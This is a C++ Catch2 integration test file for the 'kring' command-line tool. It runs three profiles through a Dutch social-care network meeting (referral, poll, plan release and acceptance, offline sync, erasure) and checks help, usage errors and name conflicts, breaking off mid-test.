// The netwerkberaad on the `kring` command line: three people, each with their own --profile,
// organise a meeting and agree a plan against a real kringd; scripts read the results with
// --json. Hidden items stay hidden, refusals are clear, and an edit made without a server
// arrives after the next sync.
#include <array>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <map>
#include <regex>
#include <set>
#include <sstream>
#include <string>
#include <utility>
#include <vector>

#include <catch2/catch.hpp>
#include <google/protobuf/struct.pb.h>
#include <google/protobuf/util/json_util.h>
#include <sys/wait.h>

#include "kring/common/utf8.h"

#include "support/temp_dir.h"
#include "support/test_server.h"
#include "terminal_text.h"

using google::protobuf::Value;
using kring::test::TempDir;
using kring::test::TestServer;

namespace {

struct Run {
  int exit_code = -1;
  std::string out;  // stdout only
  std::string all;  // stdout and stderr
};

class People {
 public:
  People(const TestServer& server, const TempDir& dir) : server_(server), dir_(dir) {}

  // `kring` as `who`: their own profile and passphrase, against this server (or `server`).
  // With `options_last` the global options follow the command's words.
  Run As(const std::string& who, const std::string& args, const std::string& server = "",
         bool options_last = false) {
    const std::string err = dir_.path() + "/stderr";
    const std::string options =
        " --server " + (server.empty() ? server_.address() : server) + " --profile " + who + " ";
    std::string cmd = "KRING_HOME=" + dir_.path() + "/home KRING_PASSPHRASE='geheim van " + who +
                      "' " + KRING_CLI_PATH +
                      (options_last ? " " + args + options : options + args) + " 2>" + err +
                      " </dev/null";
    Run r;
    FILE* p = popen(cmd.c_str(), "r");
    REQUIRE(p != nullptr);
    std::array<char, 4096> buf{};
    size_t n = 0;
    while ((n = fread(buf.data(), 1, buf.size(), p)) > 0) r.out.append(buf.data(), n);
    int status = pclose(p);
    r.exit_code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
    FILE* e = fopen(err.c_str(), "r");
    REQUIRE(e != nullptr);
    std::string errors;
    while ((n = fread(buf.data(), 1, buf.size(), e)) > 0) errors.append(buf.data(), n);
    fclose(e);
    r.all = r.out + errors;
    return r;
  }

  // Runs a command that must succeed and returns the 32-hex id after `label`.
  std::string Id(const std::string& who, const std::string& args, const std::string& label) {
    Run r = As(who, args);
    INFO(r.all);
    REQUIRE(r.exit_code == 0);
    std::smatch m;
    REQUIRE(std::regex_search(r.out, m, std::regex(label + " ([0-9a-f]{32})")));
    return m[1];
  }

  void Ok(const std::string& who, const std::string& args) {
    Run r = As(who, args);
    INFO(who << ": " << args << "\n" << r.all);
    REQUIRE(r.exit_code == 0);
  }

  Value Json(const std::string& who, const std::string& args) {
    Run r = As(who, "--json " + args);
    INFO(r.all);
    REQUIRE(r.exit_code == 0);
    Value v;
    REQUIRE(google::protobuf::util::JsonStringToMessage(r.out, &v).ok());
    return v;
  }

  // The account id of profile `who`, its account made on first use.
  const std::string& Account(const std::string& who) {
    std::string& id = accounts_[who];
    if (id.empty()) id = Id(who, "account create", "account");
    return id;
  }

  // `chair`'s case with `members` ("profile" or "profile:role"), every profile with its account;
  // with `history` a member added later reads what came before. The case id; nobody synced yet.
  std::string NewCase(const std::string& chair, const std::vector<std::string>& members,
                      bool history = true) {
    Account(chair);
    std::string words = history ? "case create --history" : "case create";
    for (const std::string& m : members) {
      const size_t colon = m.find(':');
      words += " " + Account(m.substr(0, colon)) +
               (colon == std::string::npos ? std::string() : m.substr(colon));
    }
    return Id(chair, words, "Casus gemaakt:");
  }

 private:
  const TestServer& server_;
  const TempDir& dir_;
  std::map<std::string, std::string> accounts_;
};

const Value& At(const Value& v, const std::string& key) {
  static const Value kNull;
  auto it = v.struct_value().fields().find(key);
  return it == v.struct_value().fields().end() ? kNull : it->second;
}

}  // namespace

TEST_CASE("three profiles organise a netwerkberaad and agree a plan on the command line", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  const std::string sanne = k.Id("sanne", "account create", "account");
  const std::string fatima = k.Id("fatima", "account create", "account");
  const std::string ria = k.Id("ria", "account create", "account");
  // Each profile is its own store under $KRING_HOME.
  CHECK(std::filesystem::exists(dir.path() + "/home/sanne/kring.db"));
  CHECK(std::filesystem::exists(dir.path() + "/home/ria/kring.db.salt"));

  const std::string cid =
      k.Id("sanne", "case create --history " + fatima + ":coordinator " + ria, "Casus gemaakt:");
  k.Ok("fatima", "sync");
  k.Ok("ria", "sync");

  // The first referral names the resident for good: not Ria's, a relative (in Dutch, exit 1).
  const std::string referral =
      "referral submit --resident 'Sanne de Vries' --resident-has-app --consent "
      "--reason 'Sanne wil grip op haar geld.' --invitee 'Tante Ria|family|tante|06-1234||app'";
  {
    Run r = k.As("ria", referral);
    INFO(r.all);
    CHECK(r.exit_code == 1);
    CHECK(r.all.find("Alleen de hoofdpersoon, de gespreksleider of een professional die de "
                     "gespreksleider in de kring heeft gezet, kan de eerste aanmelding doen.") !=
          std::string::npos);
  }
  // The coordinator enters the referral; the people named are proposed, then approved.
  k.Ok("fatima", referral);
  k.Ok("fatima",
       "circle propose --name 'Fatima' --kind coordinator --relation gespreksleider --account " +
           fatima);
  for (const char* p : {"'Sanne de Vries'", "'Tante Ria'", "Fatima"}) {
    k.Ok("fatima", std::string("circle approve ") + p);
  }
  k.Ok("fatima", "circle link 'Sanne de Vries' " + sanne);
  {
    // Linked to the chair's account, Sanne's entry keeps that link unless Sanne changes it.
    Run r = k.As("fatima", "circle link 'Sanne de Vries' " + ria);
    INFO(r.all);
    CHECK(r.exit_code == 1);
    CHECK(r.all.find("Alleen de hoofdpersoon kan dat veranderen.") != std::string::npos);
  }
  k.Ok("fatima", "circle link 'Tante Ria' " + ria);
  // The case list says whom each case is about.
  CHECK(k.As("fatima", "case list").out == cid + "  Sanne de Vries\n");
  k.Ok("ria", "sync");
  k.Ok("sanne", "sync");
  Value circle = k.Json("ria", "circle list");
  REQUIRE(circle.list_value().values_size() == 3);
  for (const Value& p : circle.list_value().values()) {
    CHECK(At(p, "status").string_value() == "approved");
    if (At(p, "name").string_value() == "Tante Ria") CHECK(At(p, "account").string_value() == ria);
  }
  // Contact details are for the coordinator and the person only.
  CHECK_FALSE(At(k.Json("sanne", "circle contact 'Tante Ria'"), "visible").bool_value());
  CHECK(At(k.Json("fatima", "circle contact 'Tante Ria'"), "phone").string_value() == "06-1234");
  // Setting one detail keeps the others, as `circle edit` does.
  k.Ok("fatima", "circle contact 'Tante Ria' --email ria@example.org");
  const Value contact = k.Json("fatima", "circle contact 'Tante Ria'");
  CHECK(At(contact, "phone").string_value() == "06-1234");
  CHECK(At(contact, "email").string_value() == "ria@example.org");
  // The text shows what was filled in, no empty "adres:" line.
  const std::string shown = k.As("fatima", "circle contact 'Tante Ria'").out;
  CHECK(shown.find("06-1234") != std::string::npos);
  CHECK(shown.find("ria@example.org") != std::string::npos);
  CHECK(shown.find("adres") == std::string::npos);
  // Details change later: a person's relation, the resident's question.
  k.Ok("fatima", "circle edit 'Tante Ria' --relation 'tante van moederskant'");
  k.Ok("fatima", "referral question --ik-kan 'Ik kan goed koken.'");
  // Without a part there is nothing to change: a usage error that says what is missing, not
  // "changed" (which would hide a forgotten or mistyped option).
  Run no_part = k.As("fatima", "referral question");
  CHECK(no_part.exit_code == 2);
  CHECK(no_part.out.empty());
  CHECK(no_part.all.find("minstens één deel van de vraag") != std::string::npos);
  CHECK(no_part.all.find("aangepast") == std::string::npos);
  k.Ok("sanne", "sync");
  const Value edited = k.Json("sanne", "circle list");
  for (const Value& p : edited.list_value().values()) {
    if (At(p, "name").string_value() == "Tante Ria") {
      CHECK(At(p, "relation").string_value() == "tante van moederskant");
    }
  }
  CHECK(At(k.Json("sanne", "referral show"), "ik_kan").string_value() == "Ik kan goed koken.");
  CHECK(k.As("fatima", "circle edit 'Tante Ria' --kind alien").exit_code == 1);

  // A poll: the answers are counted for the coordinator only.
  k.Ok("fatima", "poll create --slot now+7d@19:30 --slot now+8d@19:30 --required 'Sanne de Vries'");
  k.Ok("sanne", "sync");
  k.Ok("ria", "sync");
  k.Ok("sanne", "poll answer 1 ja");
  // "If need be" is "als het moet" (DOMAIN.md); the older word "misschien" is still taken.
  Run if_need_be = k.As("ria", "poll answer 1 als-het-moet");
  INFO(if_need_be.all);
  REQUIRE(if_need_be.exit_code == 0);
  k.Ok("ria", "poll answer 2 nee");
  const std::string ria_answers = k.As("ria", "poll answers").out;
  CHECK(ria_answers.find("1. als het moet") != std::string::npos);
  CHECK(ria_answers.find("misschien") == std::string::npos);
  CHECK(k.As("ria", "--lang en poll answers").out.find("1. if need be") != std::string::npos);
  k.Ok("ria", "poll answer 1 misschien");
  k.Ok("ria", "poll answer 1 maybe");
  CHECK(k.As("ria", "poll answers").out.find("1. als het moet") != std::string::npos);
  Run wrong = k.As("ria", "poll answer 1 wellicht");
  CHECK(wrong.exit_code == 2);
  CHECK(wrong.all.find("ja, als-het-moet of nee") != std::string::npos);
  CHECK(k.As("ria", "poll answer --help").out.find("ja|als-het-moet|nee") != std::string::npos);
  Run hidden = k.As("ria", "poll tally");
  CHECK(hidden.exit_code == 1);
  CHECK(hidden.all.find("Fout: ") != std::string::npos);
  k.Ok("fatima", "sync");
  CHECK(k.As("fatima", "poll tally").out.find("1 als het moet") != std::string::npos);
  Value tally = k.Json("fatima", "poll tally");
  REQUIRE(tally.list_value().values_size() == 2);
  CHECK(At(tally.list_value().values(0), "yes").number_value() == 1);
  CHECK(At(tally.list_value().values(0), "if_need_be").number_value() == 1);
  // The answers themselves: everyone's for the coordinator, only her own for Ria.
  CHECK(k.Json("fatima", "poll answers").list_value().values_size() == 3);
  Value own = k.Json("ria", "poll answers");
  REQUIRE(own.list_value().values_size() == 2);
  for (const Value& a : own.list_value().values()) {
    CHECK((At(a, "number").number_value() == 1 ? At(a, "answer").string_value() == "maybe"
                                               : At(a, "answer").string_value() == "no"));
  }

  // The exact address is hidden from Ria: she gets the neighbourhood only, in the app and in
  // her calendar file.
  k.Ok("fatima", "pretalk log 'Tante Ria' --how phone");
  k.Ok("fatima", "pretalk log 'Sanne de Vries' --how home");
  // Ria will write her part instead of coming to all of it; her view is read out.
  k.Ok("fatima", "participation set 'Tante Ria' schriftelijk --reason 'Ze werkt die avond.'");
  k.Ok("ria", "sync");
  k.Ok("ria", "participation view 'Tante Ria' --text 'Ik kan op zaterdag koken.'");
  k.Ok("sanne", "sync");
  Value views = k.Json("sanne", "participation views");
  REQUIRE(views.list_value().values_size() == 1);
  CHECK(At(views.list_value().values(0), "text").string_value() == "Ik kan op zaterdag koken.");
  // A flag's value that looks like a global option is the flag's value (not --json output).
  Run odd = k.As("ria", "participation view 'Tante Ria' --text --json");
  INFO(odd.all);
  REQUIRE(odd.exit_code == 0);
  CHECK(odd.out.find('{') == std::string::npos);
  k.Ok("sanne", "sync");
  bool literal = false;
  const Value all_views = k.Json("sanne", "participation views");
  for (const Value& v : all_views.list_value().values()) {
    literal |= At(v, "text").string_value() == "--json";
  }
  CHECK(literal);
  k.Ok("ria", "participation view 'Tante Ria' --text 'Ik kan op zaterdag koken.'");
  k.Ok("fatima",
       "poll fix 1 --coarse 'Bij Sanne thuis' --exact 'Kerkstraat 12' --hidden-from 'Tante Ria'");
  k.Ok("sanne", "sync");
  k.Ok("ria", "sync");
  CHECK(At(k.Json("sanne", "meeting show"), "exact_location").string_value() == "Kerkstraat 12");
  Value ria_meeting = k.Json("ria", "meeting show");
  CHECK(At(ria_meeting, "coarse_location").string_value() == "Bij Sanne thuis");
  CHECK(At(ria_meeting, "exact_location").string_value().empty());
  Run ics = k.As("ria", "export ics");
  REQUIRE(ics.exit_code == 0);
  CHECK(ics.out.find("BEGIN:VCALENDAR") != std::string::npos);
  CHECK(ics.out.find("Kerkstraat") == std::string::npos);
  CHECK(k.As("sanne", "export ics").out.find("Kerkstraat 12") != std::string::npos);

  // The meeting: private time, a draft only the network sees, an agreement, release, accept.
  // Each step says what it did in words a person knows (the phase as typed; no scope number).
  {
    Run phase = k.As("fatima", "meeting phase informatie");
    INFO(phase.all);
    REQUIRE(phase.exit_code == 0);
    CHECK(phase.out.find("Deze fase is begonnen: informatie.") != std::string::npos);
  }
  k.Ok("sanne", "sync");
  {
    Run private_time = k.As("sanne", "meeting private-time");
    INFO(private_time.all);
    REQUIRE(private_time.exit_code == 0);
    CHECK(private_time.out.find("groep") == std::string::npos);
    CHECK(private_time.out.find("alleen het netwerk leest nu wat het schrijft") !=
          std::string::npos);
  }
  k.Ok("ria", "sync");
  const std::string agreement =
      k.Id("ria", "agreement add --action 'Post openen met Sanne' --due now+14d", "afspraak");
  // Only spaces says nothing: refused like an empty action. Too long a word is called that.
  Run blank = k.As("ria", "agreement add --action '   ' --due now+14d");
  CHECK(blank.exit_code == 1);
  CHECK(blank.all.find("Schrijf op wat er moet gebeuren.") != std::string::npos);
  Run too_long =
      k.As("ria", "agreement add --action " + std::string(17 * 1024, 'x') + " --due now+14d");
  CHECK(too_long.exit_code == 2);
  CHECK(too_long.all.find("te lang") != std::string::npos);
  CHECK(too_long.all.find("Onbekende opdracht") == std::string::npos);
  const std::string draft =
      k.Id("sanne",
           "plan draft --ik-wil 'Rust in huis.' --contingency 'Bel Ria.' "
           "--contact-person 'Tante Ria' --domain 'geld=Schulden op een rij.'",
           "concept");
  k.Ok("fatima", "sync");
  CHECK(k.As("fatima", "plan update " + draft + " --ik-kan 'Koken.'").exit_code == 1);
  k.Ok("ria", "sync");
  k.Ok("ria", "plan update " + draft + " --ik-kan 'Ik kan goed koken.'");
  // Before the release the network reads its draft; there is no version yet. The coordinator
  // reads no draft.
  {
    Run none = k.As("ria", "plan show");
    INFO(none.all);
    CHECK(none.exit_code == 1);
    CHECK(none.all.find("Er is nog geen plan. Er is een concept: kring plan drafts") !=
          std::string::npos);
    Run drafts = k.As("ria", "plan drafts");
    INFO(drafts.all);
    CHECK(drafts.out.find(draft + "  Rust in huis.\n    geschreven door ") != std::string::npos);
    CHECK(drafts.out.find(", laatst veranderd door Tante Ria\n") != std::string::npos);
    const Value listed = k.Json("ria", "plan drafts");
    REQUIRE(listed.list_value().values_size() == 1);
    CHECK(At(listed.list_value().values(0), "id").string_value() == draft);
    CHECK(At(listed.list_value().values(0), "by").string_value() == ria);
    CHECK(At(listed.list_value().values(0), "private_time").bool_value());
    CHECK(At(listed.list_value().values(0), "ik_wil").string_value() == "Rust in huis.");
    Run one = k.As("ria", "plan show --draft " + draft);
    INFO(one.all);
    CHECK(one.out.find("Ik kan: Ik kan goed koken.") != std::string::npos);
    CHECK(one.out.find("Contactpersoon: Tante Ria") != std::string::npos);
    CHECK(At(k.Json("ria", "plan show --draft " + draft), "contingency").string_value() ==
          "Bel Ria.");
    CHECK(k.As("fatima", "plan drafts").out.find("Er is geen concept dat jij kunt lezen.") !=
          std::string::npos);
    CHECK(k.As("fatima", "plan show --draft " + draft).exit_code == 1);
  }
  // The coordinator may not release: told so first, without a preview of what would be shared.
  {
    Run preview = k.As("fatima", "meeting release");
    INFO(preview.all);
    CHECK(preview.exit_code == 1);
    CHECK(preview.all.find("Alleen het netwerk geeft vrij wat het in de eigen tijd maakte.") !=
          std::string::npos);
    CHECK(preview.all.find("afspraken:") == std::string::npos);
  }
  k.Ok("ria", "meeting release --yes");
  // Again: told that this was done, and how the plan is released (not that the plan was).
  {
    Run twice = k.As("ria", "meeting release --yes");
    INFO(twice.all);
    CHECK(twice.exit_code == 1);
    CHECK(twice.all.find("al vrijgegeven. Het plan geef je vrij met: kring plan release.") !=
          std::string::npos);
  }
  // The network releases its draft in its private time (a relative may, then), which ends it.
  {
    Run released = k.As("ria", "plan release " + draft);
    INFO(released.all);
    REQUIRE(released.exit_code == 0);
    CHECK(released.out.find("De eigen tijd is voorbij. Het beraad gaat verder met: plan "
                            "voorstellen.") != std::string::npos);
  }
  k.Ok("sanne", "sync");
  CHECK(At(k.Json("sanne", "meeting show"), "phase").string_value() == "plan_presentation");
  // Private time is over: no one of the network replaces the released plan.
  {
    Run again = k.As("ria", "plan release " + draft);
    INFO(again.all);
    CHECK(again.exit_code == 1);
    CHECK(again.all.find("Het netwerk heeft zijn plan al vrijgegeven") != std::string::npos);
  }
  // The release gave the agreement a new id; lists show the one noted in private time too.
  {
    Run listed = k.As("sanne", "agreement list");
    INFO(listed.all);
    CHECK(listed.out.find(" (was " + agreement + ")  Tante Ria") != std::string::npos);
    const Value rows = k.Json("sanne", "agreement list");
    REQUIRE(rows.list_value().values_size() == 1);
    CHECK(At(rows.list_value().values(0), "copy_of").string_value() == agreement);
    CHECK(At(rows.list_value().values(0), "id").string_value() != agreement);
  }
  // A life domain typed in Dutch is stored under the domain's key and shown with its heading.
  CHECK(At(At(k.Json("sanne", "plan show"), "life_domains"), "finances").string_value() ==
        "Schulden op een rij.");
  CHECK(k.As("sanne", "plan show").out.find("  Geld: Schulden op een rij.\n") != std::string::npos);
  // Only the chair accepts the plan; the refusal is in plain Dutch, or English on request.
  k.Ok("ria", "sync");
  Run refused = k.As("ria", "plan accept");
  CHECK(refused.exit_code == 1);
  CHECK(refused.all.find("Fout: ") != std::string::npos);
  CHECK(refused.all.find("plan.") == std::string::npos);
  CHECK(k.As("ria", "--lang en plan accept").all.find("Error: ") != std::string::npos);
  k.Ok("sanne", "plan accept");
  k.Ok("ria", "sync");
  Value plan = k.Json("ria", "plan show");
  CHECK(At(plan, "number").number_value() == 1);
  CHECK(At(plan, "accepted").bool_value());
  CHECK(At(plan, "ik_kan").string_value() == "Ik kan goed koken.");
  CHECK(At(plan, "agreements").number_value() == 1);

  // Ria accepts her agreement, then marks it done without a server; it arrives after a sync.
  k.Ok("fatima", "sync");
  const auto before_accept =
      static_cast<int64_t>(At(k.Json("fatima", "changes"), "seq").number_value());
  k.Ok("ria", "agreement accept " + agreement);
  Run offline = k.As("ria", "agreement status " + agreement + " done", "127.0.0.1:1");
  CHECK(offline.exit_code == 0);
  CHECK(offline.all.find("zodra de server bereikbaar is") != std::string::npos);
  k.Ok("fatima", "sync");
  CHECK(At(k.Json("fatima", "agreement list").list_value().values(0), "status").string_value() ==
        "accepted");
  k.Ok("ria", "sync");
  k.Ok("fatima", "sync");
  Value mine = k.Json("ria", "agreement mine");
  REQUIRE(mine.list_value().values_size() == 1);
  CHECK(At(mine.list_value().values(0), "status").string_value() == "done");
  Value seen = k.Json("fatima", "agreement list");
  REQUIRE(seen.list_value().values_size() == 1);
  CHECK(At(seen.list_value().values(0), "status").string_value() == "done");
  // Made in private time, the agreement everyone reads is the release's copy: a new id, and the
  // id Ria noted still names it (accept and status above used it).
  const std::string shared = At(seen.list_value().values(0), "id").string_value();
  CHECK(shared != agreement);
  // kring changes names the changed fields as kring conflicts does, not by their stored names.
  const Run changed = k.As("fatima", "changes --since " + std::to_string(before_accept));
  INFO(changed.all);
  CHECK(changed.out.find("afspraak " + shared +
                         ": aangepast (akkoord van wie het doet, hoe "
                         "het gaat)") != std::string::npos);
  CHECK(changed.out.find("outcome") == std::string::npos);
  CHECK(changed.out.find("accepted_hash") == std::string::npos);
  CHECK(k.As("fatima", "--lang en changes --since " + std::to_string(before_accept))
            .out.find("(accepted by whoever does it, how it goes)") != std::string::npos);

  // The six-week check, as the coordinator records it; everyone reads the same result.
  k.Ok("fatima", "check six-week --at now+43d --outcome doorgaan");
  k.Ok("sanne", "sync");
  Value check = k.Json("sanne", "check show --case " + cid);
  CHECK(At(At(check, "latest"), "outcome").string_value() == "continue");
  REQUIRE(At(At(check, "latest"), "assessments").list_value().values_size() == 1);
  CHECK(
      At(At(At(check, "latest"), "assessments").list_value().values(0), "result").string_value() ==
      "done");

  // The team report over the coordinator's cases: one case is too few to show any figure.
  Value report = k.Json("fatima", "report team");
  const Value& held = At(At(report, "figures"), "beraden_held");
  CHECK(At(held, "status").string_value() == "suppressed");
  CHECK(At(held, "value").has_null_value());
  Run csv = k.As("fatima", "report team --format csv");
  REQUIRE(csv.exit_code == 0);
  CHECK(csv.out.rfind("figure,label,value,cases,status", 0) == 0);
  CHECK(csv.out.find("Sanne") == std::string::npos);
  // For a person: Dutch lines, a date as written here, the last day included, and why it is empty.
  Run text = k.As("fatima", "report team --format tekst --from 1-1-2026 --to 31-12-2026");
  INFO(text.all);
  REQUIRE(text.exit_code == 0);
  CHECK(text.out.rfind("Teamrapport, vanaf 1-1-2026 tot en met 31-12-2026\n", 0) == 0);
  CHECK(text.out.find("  Aantal beraden: verborgen\n") != std::string::npos);
  CHECK(text.out.find("Verborgen: een aantal onder de 5") != std::string::npos);
  // Someone who coordinates no case is told why the report counts nothing.
  Run not_mine = k.As("sanne", "report team --format tekst");
  CHECK(not_mine.exit_code == 0);
  CHECK(not_mine.all.find("Je bent in geen casus op dit apparaat gespreksleider.") !=
        std::string::npos);
  CHECK(not_mine.out.find("geen casus") == std::string::npos);
  CHECK(k.As("fatima", "report team --format tekst").all.find("geen casus") == std::string::npos);

  // A restricted group of two, then the resident asks for erasure: gone from every device.
  k.Ok("sanne", "scope create 'Tante Ria'");
  k.Ok("ria", "sync");
  bool found = false;
  const Value scopes = k.Json("ria", "scope list");
  for (const Value& scope : scopes.list_value().values()) {
    const auto& members = At(scope, "members").list_value().values();
    if (members.size() == 2) found = true;
  }
  CHECK(found);
  CHECK(k.As("sanne", "case erase").exit_code == 2);  // needs --yes
  k.Ok("sanne", "case erase --yes");
  k.Ok("ria", "sync");
  CHECK(k.Json("ria", "case list").list_value().values_size() == 0);
}

TEST_CASE("every netwerkberaad command has help, and bad input is a usage error", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  Run area = k.As("x", "plan --help");
  CHECK(area.exit_code == 0);
  CHECK(area.out.find("kring plan accept") != std::string::npos);
  Run verb = k.As("x", "--lang en agreement add --help");
  CHECK(verb.exit_code == 0);
  CHECK(verb.out.find("Propose an agreement") != std::string::npos);
  // Flags are checked before the store is opened: no passphrase is needed to learn of a typo.
  Run typo = k.As("x", "poll create --slto now+1d");
  CHECK(typo.exit_code == 2);
  CHECK(typo.all.find("Onbekende optie: --slto") != std::string::npos);
  // The usage after an error goes to stderr: stdout holds results only (scripts, --json).
  CHECK(typo.out.empty());
  Run no_value = k.As("x", "--json agreement add --action 'Post' --owner");
  CHECK(no_value.exit_code == 2);
  CHECK(no_value.all.find("--owner mist een waarde erachter") != std::string::npos);
  CHECK(no_value.out.empty());
  CHECK(k.As("x", "--json plan accept een twee").out.empty());
  Run bad_profile = k.As("x", "--profile ../elders account show");
  CHECK(bad_profile.exit_code == 2);
  k.Ok("x", "account create");
  Run no_case = k.As("x", "circle list");
  CHECK(no_case.exit_code == 2);
  CHECK(no_case.all.find("--case") != std::string::npos);
  CHECK(At(k.Json("x", "account show"), "account").string_value().size() == 32);
  // --passphrase-file wins over KRING_PASSPHRASE: a wrong one in the file is refused.
  {
    std::ofstream(dir.path() + "/wrong") << "fout\n";
    std::ofstream(dir.path() + "/right") << "geheim van x\n";
  }
  Run wrong = k.As("x", "--passphrase-file " + dir.path() + "/wrong account show");
  CHECK(wrong.exit_code == 1);
  CHECK(wrong.all.find("wachtwoordzin past niet") != std::string::npos);
  k.Ok("x", "--passphrase-file " + dir.path() + "/right account show");
  // A file that cannot be read says so (without its path), and nothing is opened.
  Run missing = k.As("x", "--passphrase-file " + dir.path() + "/nergens account show");
  CHECK(missing.exit_code == 1);
  CHECK(missing.all.find("kan niet worden gelezen") != std::string::npos);
  CHECK(missing.all.find("nergens") == std::string::npos);
  // Also after the command word: the wrong file is read there too.
  CHECK(k.As("x", "account show --passphrase-file " + dir.path() + "/wrong").exit_code == 1);
  k.Ok("x", "case create");
  CHECK(k.Json("x", "case list").list_value().values_size() == 1);
  CHECK(k.Json("x", "device list").list_value().values_size() == 1);
  Run when = k.As("x", "poll create --slot morgen");
  CHECK(when.exit_code == 1);
  CHECK(when.all.find("Fout: ") != std::string::npos);
}

namespace {

// `who` makes an account and a case and stands in its circle as its coordinator, Xandra.
void CaseWithCoordinator(People& k, const std::string& who) {
  k.Ok(who, "account create");
  k.Ok(who, "case create");
  const std::string me = At(k.Json(who, "account show"), "account").string_value();
  k.Ok(who, "circle propose --name Xandra --kind coordinator --relation r --account " + me);
  k.Ok(who, "circle approve Xandra");
}

}  // namespace

TEST_CASE("two people with one name: a warning, and a name that fits two is refused", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  CaseWithCoordinator(k, "x");
  Run first = k.As("x", "circle propose --name Mo --kind family --relation neef");
  REQUIRE(first.exit_code == 0);
  CHECK(first.all.find("Let op") == std::string::npos);
  // The second Mo is proposed (two cousins may share a name), with a warning on stderr only.
  Run second = k.As("x", "circle propose --name Mo --kind family --relation neef");
  INFO(second.all);
  REQUIRE(second.exit_code == 0);
  CHECK(second.out.find("Let op") == std::string::npos);
  CHECK(second.all.find("Let op: er is al iemand in de kring met deze naam") != std::string::npos);
  std::smatch m;
  // What was made is named in the user's language, as by every command that makes something.
  CHECK(second.out.find("person ") == std::string::npos);
  REQUIRE(std::regex_search(second.out, m, std::regex("persoon ([0-9a-f]{32})\n")));
  const std::string second_id = m[1];
  Run english = k.As("x", "--lang en circle propose --name Mo --kind friend --relation oom");
  CHECK(std::regex_search(english.out, std::regex("person [0-9a-f]{32}\n")));
  CHECK(english.all.find("Note: someone in the circle already has this name") != std::string::npos);
  // A command given the shared name does not guess: it is refused and nothing changes.
  Run guess = k.As("x", "circle approve Mo");
  CHECK(guess.exit_code != 0);
  CHECK(guess.all.find("Meer mensen hebben deze naam; gebruik de id.") != std::string::npos);
  size_t approved = 0;
  const Value circle = k.Json("x", "circle list");
  for (const Value& p : circle.list_value().values()) {
    if (At(p, "status").string_value() == "approved") ++approved;
  }
  CHECK(approved == 1);
  // By id it works.
  k.Ok("x", "circle approve " + second_id);
}

namespace {

// The earliest slot start of a `poll show` answer.
double FirstStart(const Value& poll) {
  double first = 0;
  for (const Value& slot : At(poll, "slots").list_value().values()) {
    const double start = At(slot, "start_ms").number_value();
    if (first == 0 || start < first) first = start;
  }
  return first;
}

}  // namespace

TEST_CASE("a poll without --deadline closes in two days, or at its first moment if sooner",
          "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  CaseWithCoordinator(k, "x");
  // "now" is one moment for the whole command: a slot exactly two days ahead is not "before" a
  // default deadline read a few milliseconds later.
  k.Ok("x", "poll create --slot now+2d --slot now+3d");
  const Value two_days = k.Json("x", "poll show");
  REQUIRE(At(two_days, "slots").list_value().values_size() == 2);
  CHECK(At(two_days, "deadline_ms").number_value() == FirstStart(two_days));
  // A meeting tomorrow: the poll closes when it starts, not a day after.
  k.Ok("x", "poll create --slot now+1d --slot now+3d");
  const Value tomorrow = k.Json("x", "poll show");
  CHECK(At(tomorrow, "deadline_ms").number_value() == FirstStart(tomorrow));
  CHECK(FirstStart(tomorrow) < FirstStart(two_days));
  // A moment already past is not a choice (the poll would be closed before it opened).
  Run past = k.As("x", "poll create --slot now-1h");
  CHECK(past.exit_code == 2);
  CHECK(past.all.find("al voorbij") != std::string::npos);
  // A deadline the user gives is kept, and one after the first moment is still refused.
  Run late = k.As("x", "poll create --slot now+1d --deadline now+2d");
  CHECK(late.exit_code == 1);
  CHECK(late.all.find("sluitdatum") != std::string::npos);
}

namespace {

Value ParseJson(const std::string& text) {
  Value v;
  INFO(text);
  REQUIRE(google::protobuf::util::JsonStringToMessage(text, &v).ok());
  return v;
}

// The text of field `name` of entity `id` in `kring case show` (the CaseState as JSON).
std::string FieldText(const Value& state, const std::string& id, const std::string& name) {
  return At(At(At(At(At(state, "entities"), id), "fields"), name), "value")
      .struct_value()
      .fields()
      .at("text")
      .string_value();
}

}  // namespace

TEST_CASE("what changed since a sequence number, and a conflict resolved on both devices",
          "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  k.Id("sanne", "account create", "account");
  const std::string fatima = k.Id("fatima", "account create", "account");

  // `case create --json`, with the global options after the command's words.
  Run created = k.As("sanne", "case create --json " + fatima + ":coordinator", "", true);
  INFO(created.all);
  REQUIRE(created.exit_code == 0);
  const Value made = ParseJson(created.out);
  const std::string cid = At(made, "case").string_value();
  REQUIRE(cid.size() == 32);
  CHECK(At(made, "synced").bool_value());
  Run listed = k.As("sanne", "case list --json", "", true);
  REQUIRE(listed.exit_code == 0);
  REQUIRE(ParseJson(listed.out).list_value().values_size() == 1);
  CHECK(ParseJson(listed.out).list_value().values(0).string_value() == cid);
  k.Ok("fatima", "sync");

  // Changes: everything at first, then only what came after the sequence number printed.
  k.Ok("fatima", "micro wellbeing intake 4");
  Value first = k.Json("fatima", "changes");
  REQUIRE(At(first, "changes").list_value().values_size() == 1);
  const Value& intake = At(first, "changes").list_value().values(0);
  CHECK(At(intake, "type").string_value() == "micro_wellbeing");
  CHECK(At(intake, "created").bool_value());
  const auto seq = static_cast<int64_t>(At(first, "seq").number_value());
  CHECK(seq >= static_cast<int64_t>(At(intake, "seq").number_value()));
  k.Ok("fatima", "micro wellbeing review 7");
  k.Ok("sanne", "sync");
  Value later = k.Json("sanne", "changes --since " + std::to_string(seq));
  REQUIRE(At(later, "changes").list_value().values_size() == 1);
  const Value& review = At(later, "changes").list_value().values(0);
  CHECK(At(review, "entity").string_value() != At(intake, "entity").string_value());
  CHECK(static_cast<int64_t>(At(review, "seq").number_value()) > seq);
  Run dutch = k.As("sanne", "changes --since " + std::to_string(seq));
  REQUIRE(dutch.exit_code == 0);
  CHECK(dutch.out.find("Veranderd in het plan sinds volgnummer") != std::string::npos);
  CHECK(dutch.out.find("welzijnscijfer") != std::string::npos);
  CHECK(dutch.out.find("kring changes --since") != std::string::npos);
  CHECK(k.As("sanne", "changes --since gisteren").exit_code == 2);
  CHECK(k.As("sanne", "changes --bogus").exit_code == 2);
  CHECK(k.As("sanne", "changes --help").exit_code == 0);

  // Two people change the same field before seeing each other's edit: a conflict on both
  // devices, with authors and sequence numbers; the values only on request.
  Run entity = k.As("sanne", "entity create " + cid + " notitie");
